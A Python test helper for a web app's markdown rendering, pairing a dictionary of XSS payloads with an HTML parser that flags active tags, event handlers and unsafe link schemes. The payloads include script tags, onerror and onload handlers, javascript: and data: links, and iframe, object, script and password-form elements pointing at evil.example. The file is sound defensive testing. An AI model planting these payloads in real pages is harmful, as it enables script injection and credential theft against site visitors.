"""Markup attacks and the check that rendered HTML stays inert, shared by the markdown tests of every page."""

from __future__ import annotations

from html.parser import HTMLParser

ATTACKS = {
    "script": "<script>alert('xss-script')</script>",
    "script in markdown": "Hello\n\n<script src=https://evil.example/x.js></script>\n\nbye",
    "img onerror": '<img src="x.png" onerror="alert(\'xss-img\')">',
    "markdown image onerror": '![pic](x.png" onerror="alert(1))',
    "svg onload": "<svg onload=alert('xss-svg')></svg>",
    "body onload": "<body onload=alert('xss-body')>",
    "markdown javascript link": "[click](javascript:alert('xss-link'))",
    "html javascript link": "<a href=\"javascript:alert('xss-a')\">click</a>",
    "mixed case javascript link": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "entity javascript link": '<a href="&#106;avascript:alert(1)">click</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "iframe": '<iframe src="https://evil.example/frame"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "style attribute": '<p style="background:url(javascript:alert(1))">styled</p>',
    "form": '<form action="https://evil.example"><input name="password"></form>',
}
ACTIVE_TAGS = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "style",
    "link",
    "meta",
    "base",
    "body",
}


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def problems(html: str) -> list[str]:
    """What in `html` could run script or load a frame: empty when the HTML is inert."""
    parser = _Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.elements:
        if tag in ACTIVE_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                problems.append(f"<{tag} {name}>")
            scheme = "".join(value.split()).lower().split(":", 1)[0] if ":" in value else ""
            if name in {"href", "src", "action", "data"} and scheme not in {"", "http", "https", "mailto"}:
                problems.append(f"<{tag} {name}={value!r}>")
    return problems
